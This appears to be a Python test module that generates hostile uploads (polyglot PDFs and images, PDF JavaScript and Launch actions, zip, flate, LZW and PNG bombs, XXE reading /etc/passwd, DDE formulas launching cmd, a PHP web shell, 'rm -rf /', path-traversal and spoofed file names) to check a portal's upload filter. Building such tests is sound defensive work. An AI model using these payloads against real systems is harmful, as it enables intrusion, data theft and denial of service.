"""Files that somebody sends to do harm, made here one by one, and what the portal answers to each.

`python -m tests.editorial.hostile` sends every one and writes a line per file: the answer, seconds, and the peak
memory so far of the processes that looked into them.
"""

import io
import json
import os
import resource
import struct
import sys
import time
import zipfile
import zlib
from collections.abc import Callable

from openpyxl import Workbook
from PIL import Image

from bqportal.editorial.uploads.sniffing import EICAR

Parts = dict[str, bytes]
PDF, PNG, JPEG = "application/pdf", "image/png", "image/jpeg"
DOCUMENTS: dict[str, tuple[str, str, Callable[[], bytes]]] = {}  # label → name, declared type, content
WORKBOOKS: dict[str, tuple[str, Callable[[], bytes]]] = {}
MEGABYTE = 1024 * 1024


def document(label: str, content: Callable[[], bytes] | bytes, name: str = "paper.pdf", declared: str = PDF) -> None:
    """Enter a hostile document."""
    assert label not in DOCUMENTS
    DOCUMENTS[label] = (name, declared, content if callable(content) else lambda: content)


def workbook(label: str, content: Callable[[], bytes] | bytes, name: str = "table.xlsx") -> None:
    """Enter a hostile workbook."""
    assert label not in WORKBOOKS
    WORKBOOKS[label] = (name, content if callable(content) else lambda: content)


# --- Building blocks -------------------------------------------------------------------------------------------------


def pdf(objects: Parts | None = None, *, catalogue: bytes = b"", page: bytes = b"", trailer: bytes = b"") -> bytes:
    """A right PDF of one page; `objects` by number from 4 on are added, the other arguments to the dictionaries."""
    numbered = {
        "1": b"<</Type/Catalog/Pages 2 0 R" + catalogue + b">>",
        "2": b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "3": b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]" + page + b">>",
        **(objects or {}),
    }
    written = b"%PDF-1.7\n"
    offsets = {}
    for number, body in numbered.items():
        offsets[int(number)] = len(written)
        written += number.encode() + b" 0 obj\n" + body + b"\nendobj\n"
    size, start = max(offsets) + 1, len(written)
    table = b"".join(
        b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
        for number in range(size)
    )
    written += b"xref\n0 %d\n" % size + table
    return written + b"trailer\n<</Size %d/Root 1 0 R" % size + trailer + b">>\nstartxref\n%d\n%%%%EOF\n" % start


def updated(content: bytes, number: int, body: bytes) -> bytes:
    """The PDF with one object replaced by an update at its end; the old one stays in the file."""
    written = content + b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = b"xref\n%d 1\n%010d 00000 n \ntrailer\n<</Size 5/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n"
    return written + table % (number, len(content), content.rindex(b"xref\n0"), len(written))


def stream(content: bytes, entries: bytes = b"/Filter/FlateDecode", packed: bool = True) -> bytes:
    """A stream object, packed with zlib unless told otherwise."""
    body = zlib.compress(content, 9) if packed else content
    return b"<<" + entries + b"/Length %d>>\nstream\n" % len(body) + body + b"\nendstream"


def object_stream(inner: bytes) -> bytes:
    """Object 10 packed into a stream of objects."""
    return stream(b"10 0 " + inner, b"/Type/ObjStm/N 1/First 5/Filter/FlateDecode")


def lzw_of_zeros(megabytes: int) -> bytes:
    """LZW codes for many zero bytes (ISO 32000-2 7.4.4): each code is the one before and one zero more."""
    parts, made = [format(256, "09b")], 0
    while made < megabytes * MEGABYTE:
        parts.append(format(0, "09b"))
        for code in range(258, 4093):
            parts.append(format(code, f"0{9 if code < 511 else 10 if code < 1023 else 11 if code < 2047 else 12}b"))
            made += code - 256
        parts.append(format(256, "012b"))
    bits = "".join(parts) + format(257, "09b")
    bits += "0" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8)


def picture(form: str, size: tuple[int, int] = (8, 8)) -> bytes:
    """A right picture."""
    written = io.BytesIO()
    Image.new("RGB", size, "white").save(written, form)
    return written.getvalue()


def chunk(name: bytes, content: bytes) -> bytes:
    """A chunk of a PNG."""
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def png(width: int, height: int, data: bytes, extra: bytes = b"") -> bytes:
    """A PNG that says it is so wide and high."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + extra + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def jpeg_of_size(width: int, height: int) -> bytes:
    """A JPEG whose header says it is so wide and high."""
    content = bytearray(picture("JPEG"))
    at = content.index(b"\xff\xc0") + 5
    content[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(content)


def archive(parts: Parts, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip with these entries."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", method) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return written.getvalue()


def sheet_parts() -> Parts:
    """The entries of a right workbook."""
    written = io.BytesIO()
    book = Workbook()
    book.active.append(["title", "hours"])
    book.active.append(["welding", 40])
    book.save(written)
    with zipfile.ZipFile(written) as package:
        return {name: package.read(name) for name in package.namelist()}


def book(change: Parts | None = None, *, replace: tuple[str, bytes, bytes] | None = None) -> bytes:
    """A right workbook with entries changed or added, or a text in one replaced."""
    parts = sheet_parts()
    if replace:
        name, old, new = replace
        assert old in parts[name], parts[name]
        parts[name] = parts[name].replace(old, new)
    return archive({**parts, **(change or {})})


def sheet(rows: bytes) -> bytes:
    """A workbook whose sheet has these rows."""
    space = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    return book(
        {"xl/worksheets/sheet1.xml": b"<worksheet " + space + b"><sheetData>" + rows + b"</sheetData></worksheet>"}
    )


def encrypted_entry(content: bytes) -> bytes:
    """The zip with every entry marked as encrypted."""
    marked = bytearray(content)
    for mark, offset in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        at = marked.find(mark)
        while at >= 0:
            marked[at + offset] |= 1
            at = marked.find(mark, at + 4)
    return bytes(marked)


SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
PHP = b"<?php system($_GET['c']); ?>"
GIF = b"GIF89a\1\0\1\0\0\0\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0;"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
ZIP = archive({"A.class": b"\xca\xfe\xba\xbe" + bytes(60)})
LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha">' + b"".join(
    b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
) + b"]>"  # fmt: skip
XXE = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'

# --- Two things at once ----------------------------------------------------------------------------------------------

document("PDF and zip behind it", lambda: pdf() + ZIP)
document("PDF and zip within", lambda: pdf({"4": stream(ZIP, b"", packed=False)}))
document("PDF and HTML behind it", lambda: pdf() + HTML)
document("PDF and HTML within", lambda: pdf({"4": stream(HTML, b"", packed=False)}))
document("HTML before PDF", lambda: HTML + pdf())
document("program before PDF", lambda: b"MZ" + bytes(62) + pdf())
document("line break before PDF", lambda: b"\n" + pdf())
document("second PDF behind the first", lambda: pdf() + pdf(catalogue=b"/OpenAction" + SCRIPT))
document("PDF and PHP in a comment", lambda: pdf().replace(b"1 0 obj", b"%" + PHP + b"\n1 0 obj", 1))
document("GIF and jar", GIF + ZIP, "picture.png", PNG)
document("JPEG and PHP behind it", lambda: picture("JPEG") + PHP, "photo.jpg", JPEG)
document("JPEG and PHP in a comment", lambda: picture("JPEG").replace(
    b"\xff\xd8", b"\xff\xd8\xff\xfe" + struct.pack(">H", len(PHP) + 2) + PHP, 1), "photo.jpg", JPEG)  # fmt: skip
document("JPEG and zip behind it", lambda: picture("JPEG") + ZIP, "photo.jpg", JPEG)
document("JPEG with HTML in a comment", lambda: picture("JPEG").replace(
    b"\xff\xd8", b"\xff\xd8\xff\xfe" + struct.pack(">H", len(HTML) + 2) + HTML, 1), "photo.jpg", JPEG)  # fmt: skip
document("PNG and zip behind it", lambda: picture("PNG") + ZIP, "scan.png", PNG)
document("PNG and PDF within", lambda: png(8, 8, zlib.compress(bytes(200)), chunk(b"tEXt", pdf())), "scan.png", PNG)
document(
    "PNG with a script in a text", lambda: png(8, 8, zlib.compress(bytes(200)), chunk(b"tEXt", HTML)), "a.png", PNG
)
document("PNG with a program behind it", lambda: picture("PNG") + b"\x7fELF\2\1\1" + bytes(99), "scan.png", PNG)

# --- Not what it says ------------------------------------------------------------------------------------------------

document("HTML as PDF", HTML)
document("HTML in UTF-16 as PDF", HTML.decode().encode("utf-16"))
document("MHTML as PDF", b"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x\n" + HTML)
document("Windows program as PDF", b"MZ" + bytes(100) + b"This program cannot be run in DOS mode.")
document("Linux program as PDF", b"\x7fELF\2\1\1" + bytes(200))
document("shortcut as PDF", b"L\0\0\0\1\x14\2\0" + bytes(100))
document("shell script as PDF", b"#!/bin/sh\nrm -rf /\n")
document("PostScript as PDF", b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n")
document("RTF as PDF", b"{\\rtf1{\\object\\objdata 0105}}")
document("old Word file as PDF", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600))
document(
    "Word file with macros as PDF", lambda: archive({"word/vbaProject.bin": b"x", "[Content_Types].xml": b"<Types/>"})
)
document("zip bomb as PDF", lambda: archive({"a": bytes(50 * MEGABYTE)}))
document("SVG with a script", SVG, "drawing.svg", "image/svg+xml")
document("SVG as PNG", SVG, "drawing.png", PNG)
document("SVG with a thousand laughs", LAUGHS + b"<svg>&j;</svg>", "drawing.svg", "image/svg+xml")
document("TIFF", b"II*\0" + bytes(200), "scan.tiff", "image/tiff")
document("TIFF as JPEG", b"MM\0*" + bytes(200), "scan.jpg", JPEG)
document("HEIC as JPEG", b"\0\0\0\x18ftypheic" + bytes(200), "photo.jpg", JPEG)
document("GIF as PNG", GIF, "picture.png", PNG)
document("BMP as PNG", lambda: picture("BMP"), "picture.png", PNG)
document("PNG as PDF", lambda: picture("PNG"))
document("PDF as PNG", pdf, "paper.png", PNG)
document("JPEG declared as HTML", lambda: picture("JPEG"), "photo.jpg", "text/html")
document("PDF that says it is a script", pdf, "paper.pdf", "text/javascript")
document("no ending", pdf, "paper")
document("program's ending behind", pdf, "paper.pdf.exe")
document("program's ending within", pdf, "paper.php.pdf")
document("page's ending within", lambda: picture("PNG"), "scan.html.png", PNG)
document("name turned around", pdf, "paper\u202efdp.exe.pdf")
document("NUL in the name", pdf, "paper.exe\0.pdf")
document("line break in the name", pdf, "paper\r\nSet-Cookie: x.pdf")
document("path in the name", pdf, "../../etc/paper.pdf")
document("path of Windows in the name", pdf, "..\\paper.pdf")
document("name too long", pdf, "a" * 5000 + ".pdf")
document("no name", pdf, "")
document("empty", b"")
document("only white space", b" \n\0" * 100)
document("too large", lambda: b"%PDF-1.7" + bytes(20 * MEGABYTE) + b"%%EOF")
document("EICAR", EICAR)
document("EICAR in a PDF", lambda: pdf({"4": stream(EICAR, b"", packed=False)}))
document("EICAR packed in a PDF", lambda: pdf({"4": stream(EICAR)}))
document("EICAR in a PNG", lambda: png(8, 8, zlib.compress(bytes(200)), chunk(b"tEXt", EICAR)), "scan.png", PNG)

# --- PDFs that act ---------------------------------------------------------------------------------------------------

document("script on opening", lambda: pdf(catalogue=b"/OpenAction" + SCRIPT))
document("script elsewhere on opening", lambda: pdf({"4": SCRIPT}, catalogue=b"/OpenAction 4 0 R"))
document("script in the names", lambda: pdf(catalogue=b"/Names<</JavaScript<</Names[(a)" + SCRIPT + b"]>>>>"))
document(
    "script with its name disguised",
    lambda: pdf({"4": b"<</S/J#61vaScr#69pt/J#53(1)>>"}, catalogue=b"/OpenAction 4 0 R"),
)
document(
    "script behind a reference",
    lambda: pdf({"4": b"<</S 5 0 R/X(1)>>", "5": b"/Rendition"}, page=b"/Annots[<</A 4 0 R>>]"),
)
document("script packed in a stream of objects", lambda: pdf({"4": object_stream(SCRIPT)}))
document("script on a page", lambda: pdf(page=b"/AA<</O" + SCRIPT + b">>"))
document("script nobody points to", lambda: pdf({"4": SCRIPT}))
document("script in an older state", lambda: updated(pdf({"4": SCRIPT}), 4, b"null"))
document("program started", lambda: pdf(catalogue=b"/OpenAction<</S/Launch/F(cmd.exe)>>"))
document("program started by a link", lambda: pdf(page=b"/Annots[<</Subtype/Link/A<</S/Launch/F(a)>>>>]"))
document("page of the web on opening", lambda: pdf(catalogue=b"/OpenAction<</S/URI/URI(https://evil.example)>>"))
document("link that is a script", lambda: pdf(page=b"/Annots[<</Subtype/Link/A<</S/URI/URI(vbscript:x)>>>>]"))
document("link to a file share", lambda: pdf(page=b"/Annots[<</Subtype/Link/A<</S/URI/URI(file://evil/x)>>>>]"))
document("other file opened", lambda: pdf(page=b"/Annots[<</Subtype/Link/A<</S/GoToR/F(\\\\\\\\evil\\\\x)>>>>]"))
document("file attached", lambda: pdf({"4": stream(b"MZ", b"/Type/EmbeddedFile/Filter/FlateDecode")}))
document("file attached to a page", lambda: pdf(page=b"/Annots[<</Subtype/FileAttachment/FS<</F(a)>>>>]"))
document("files in the names", lambda: pdf(catalogue=b"/Names<</EmbeddedFiles<</Names[]>>>>"))
document("rich media", lambda: pdf(page=b"/Annots[<</Subtype/RichMedia>>]"))
document("film", lambda: pdf(page=b"/Annots[<</Subtype/Movie/Movie<</F(a)>>>>]"))
document("form of XFA", lambda: pdf({"4": stream(b"<xdp/>")}, catalogue=b"/AcroForm<</XFA 4 0 R/Fields[]>>"))
document(
    "form that sends", lambda: pdf(page=b"/Annots[<</Subtype/Widget/A<</S/SubmitForm/F(https://evil.example)>>>>]")
)
document("data fetched", lambda: pdf(page=b"/Annots[<</Subtype/Widget/A<</S/ImportData/F(a)>>>>]"))
document("encrypted", lambda: pdf(
    {"4": b"<</Filter/Standard/V 1/R 2/O(" + b"x" * 32 + b")/U(" + b"y" * 32 + b")/P -4>>"},
    trailer=b"/Encrypt 4 0 R/ID[(a)(a)]"))  # fmt: skip

# --- Files that take memory or time ----------------------------------------------------------------------------------

document("flate bomb", lambda: pdf({"4": stream(bytes(300 * MEGABYTE))}, page=b"/Contents 4 0 R"))
document("flate bomb within a flate bomb", lambda: pdf(
    {"4": stream(zlib.compress(bytes(300 * MEGABYTE), 9), b"/Filter[/FlateDecode/FlateDecode]")}))  # fmt: skip
document("many small flate bombs", lambda: pdf({str(n): stream(bytes(5 * MEGABYTE)) for n in range(4, 64)}))
document("LZW bomb", lambda: pdf({"4": stream(lzw_of_zeros(120), b"/Filter/LZWDecode", packed=False)}))
document("run-length bomb", lambda: pdf({"4": stream(b"\x81\0" * 900_000, b"/Filter/RunLengthDecode", packed=False)}))
document(
    "bomb of objects", lambda: pdf({"4": stream(bytes(90 * MEGABYTE), b"/Type/ObjStm/N 1/First 5/Filter/FlateDecode")})
)
document("too many objects", lambda: pdf({str(n): b"1" for n in range(4, 100_010)}))
document(
    "pages in a circle",
    lambda: pdf({"4": b"<</Type/Pages/Kids[2 0 R 3 0 R]>>"}).replace(b"Kids[3 0 R]", b"Kids[4 0 R]"),
)
document("page that is its own parent", lambda: pdf().replace(b"Kids[3 0 R]", b"Kids[2 0 R]"))
document("one page a million times", lambda: pdf().replace(b"Kids[3 0 R]", b"Kids[" + b"3 0 R " * 1_000_000 + b"]"))
document(
    "tables in a circle", lambda: pdf(trailer=b"/Prev 9").replace(b"/Prev 9", b"/Prev %d" % pdf().index(b"xref\n0"))
)
document("nested without end", lambda: pdf({"4": b"[" * 100_000 + b"]" * 100_000}))
document("number without end", lambda: pdf({"4": b"9" * 5_000_000}))
document("no pages", lambda: pdf().replace(b"Kids[3 0 R]", b"Kids[]     "))
document("cut in the middle", lambda: pdf({"4": stream(b"x" * 5000)})[:300])
document("cut and ended", lambda: pdf()[:60] + b"\n%%EOF")
document("noise that begins as a PDF", lambda: b"%PDF-1.7\n" + os.urandom(100_000) + b"\n%%EOF")
document(
    "PDF picture too large",
    lambda: pdf({"4": stream(b"", b"/Subtype/Image/Width 90000/Height 90000/Filter/FlateDecode")}),
)
document("PNG bomb", lambda: png(50_000, 50_000, zlib.compress(bytes(10 * MEGABYTE), 9)), "scan.png", PNG)
document(
    "PNG bomb just too large", lambda: png(6_000, 5_001, zlib.compress(bytes(6_001 * 5_001 * 3), 9)), "scan.png", PNG
)
document("PNG text bomb", lambda: png(8, 8, zlib.compress(bytes(200)), chunk(
    b"zTXt", b"a\0\0" + zlib.compress(bytes(200 * MEGABYTE), 9))), "scan.png", PNG)  # fmt: skip
document("PNG with a wrong sum", lambda: picture("PNG")[:-5] + b"\0\0\0\0\0", "scan.png", PNG)
document("PNG cut", lambda: picture("PNG")[:-12], "scan.png", PNG)
document("JPEG bomb", lambda: jpeg_of_size(65_000, 65_000), "photo.jpg", JPEG)
document("JPEG cut", lambda: picture("JPEG", (400, 400))[:-100], "photo.jpg", JPEG)
document(
    "JPEG of noise", lambda: b"\xff\xd8\xff\xe0\0\4ab\xff\xda\0\4cd" + b"\1" * 5000 + b"\xff\xd9", "photo.jpg", JPEG
)

# --- Workbooks -------------------------------------------------------------------------------------------------------

TYPES, SHEET, BOOK = "[Content_Types].xml", "xl/worksheets/sheet1.xml", "xl/workbook.xml"
RELATIONS = "xl/_rels/workbook.xml.rels"
workbook("macros", lambda: book({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}))
workbook("macros by type", lambda: book(replace=(
    TYPES, b"spreadsheetml.sheet.main+xml", b"spreadsheetml.sheet.main+xml;ms-excel.sheet.macroEnabled")))  # fmt: skip
workbook("macros of Excel 4", lambda: book({"xl/macrosheets/sheet1.xml": b"<x/>"}))
workbook("with macros, by its name", book, "table.xlsm")
workbook("double ending", book, "table.exe.xlsx")
workbook("embedded program", lambda: book({"xl/embeddings/oleObject1.bin": b"MZ"}))
workbook("program as a picture", lambda: book({"xl/media/image1.png": b"MZ" + bytes(60)}))
workbook("ActiveX", lambda: book({"xl/activeX/activeX1.xml": b"<x/>"}))
workbook("external workbook", lambda: book({"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}))
workbook("external template", lambda: book(replace=(
    RELATIONS, b"</Relationships>",
    b'<Relationship Id="r9" Type="x/attachedTemplate" Target="http://evil" TargetMode="External"/>'
    b"</Relationships>")))  # fmt: skip
workbook("data connection", lambda: book({"xl/connections.xml": b"<connections/>"}))
workbook("DDE in a formula", lambda: sheet(b"<row><c><f>cmd|'/c calc'!A0</f><v>1</v></c></row>"))
workbook("DDE in a name", lambda: book(replace=(
    BOOK, b"<sheets>",
    b"<definedNames><definedName name='a'>cmd|'/c calc'!A0</definedName></definedNames><sheets>")))  # fmt: skip
workbook("DDE as a link", lambda: book({"xl/links.xml": b"<x><ddeLink ddeService='cmd'/></x>"}))
workbook("formula that fetches", lambda: sheet(b'<row><c><f>WEBSERVICE("http://evil")</f><v>1</v></c></row>'))
workbook("external entity", lambda: book(replace=(SHEET, b"<worksheet", XXE + b"<worksheet")))
workbook(
    "external entity in UTF-16", lambda: book({SHEET: (XXE + b"<worksheet>&e;</worksheet>").decode().encode("utf-16")})
)
workbook("a thousand laughs", lambda: book({SHEET: LAUGHS + b"<worksheet>&j;</worksheet>"}))
workbook("external entity in the types", lambda: book(replace=(TYPES, b"<Types", XXE + b"<Types")))
workbook("flat zip bomb", lambda: book({"xl/media/a.bin": bytes(300 * MEGABYTE)}))
workbook("zip bomb of many entries", lambda: book({f"xl/media/{n}.bin": bytes(MEGABYTE) for n in range(100)}))
workbook("nested zip bomb", lambda: book({"xl/media/a.zip": archive({"b": bytes(50 * MEGABYTE)})}))
workbook("size denied", lambda: book({"xl/media/a.bin": bytes(60 * MEGABYTE)}).replace(
    struct.pack("<I", 60 * MEGABYTE), struct.pack("<I", 10)))  # fmt: skip
workbook("too many entries", lambda: book({f"xl/media/{n}.txt": b"" for n in range(1001)}))
workbook("path upwards", lambda: book({"../../etc/cron.d/x": b"x"}))
workbook("path of Windows", lambda: book({"..\\x": b"x"}))
workbook("path from the root", lambda: book({"/etc/passwd": b"x"}))
workbook("encrypted entries", lambda: encrypted_entry(book()))
workbook("encrypted workbook", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le") * 99)
workbook("EICAR in an entry", lambda: book({"xl/media/a.txt": EICAR}))
workbook("EICAR as a workbook", EICAR)
workbook("no workbook in the zip", lambda: archive({"a.txt": b"x"}))
workbook(
    "Word file as a workbook", lambda: archive({TYPES: b'<Types><Override ContentType="x.wordprocessingml"/></Types>'})
)
workbook("HTML as a workbook", HTML)
workbook("program before the zip", lambda: b"MZ" + bytes(62) + book())
workbook("something behind the zip", lambda: book() + HTML)
workbook("odd packing", lambda: archive(sheet_parts(), zipfile.ZIP_LZMA))
workbook("row far below", lambda: sheet(b'<row r="1048576"><c r="A1048576"><v>1</v></c></row>'))
workbook("column far away", lambda: sheet(b'<row r="1"><c r="XFD1"><v>1</v></c></row>'))
workbook("too many rows", lambda: sheet(b"<row/>" * 20_001))
workbook("one endless row", lambda: sheet(b"<row>" + b"<c/>" * 60_000 + b"</row>"))
workbook("nested without end", lambda: sheet(b"<row>" * 5_000 + b"</row>" * 5_000))
workbook("text that is not there", lambda: sheet(b'<row><c t="s"><v>99</v></c></row>'))
workbook("too many cells", lambda: sheet(b"".join(
    b"<row>" + b"".join(b"<c><v>%x</v></c>" % (row * column) for column in range(450)) + b"</row>"
    for row in range(1_200))))  # fmt: skip
workbook("too many texts", lambda: book({
    "xl/sharedStrings.xml":
    b"<sst>" + b"".join(b"<si><t>%x</t></si>" % n for n in range(600_000)) + b"</sst>"}))  # fmt: skip
workbook("old workbook", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000))
workbook("damaged XML", lambda: sheet(b"<row><c></row>"))
workbook("cut in the middle", lambda: book()[:2000])
workbook("empty", b"")
workbook("too large", lambda: book({"xl/media/a.bin": os.urandom(6 * MEGABYTE)}))


def answers() -> None:
    """Send everything; one line of JSON each."""
    from bqportal.editorial.uploads.receiving import received
    from bqportal.editorial.uploads.refusals import InvalidUploadError
    from bqportal.editorial.uploads.spreadsheets import open_workbook

    sent = [(f"document: {label}", *entry) for label, entry in DOCUMENTS.items()]
    sent += [(f"workbook: {label}", name, "", make) for label, (name, make) in WORKBOOKS.items()]
    for label, name, declared, make in sent:
        content, started, reason = make(), time.monotonic(), ""
        try:
            if label.startswith("document"):
                received(content, name=name, declared=declared)
            else:
                open_workbook(content, name=name)
        except InvalidUploadError as error:
            reason = error.reason.value
        seconds = time.monotonic() - started
        peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024
        print(json.dumps({"label": label, "reason": reason, "seconds": seconds, "peak": peak}), flush=True)


if __name__ == "__main__":
    import django

    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "config.settings")
    django.setup()
    sys.exit(answers())
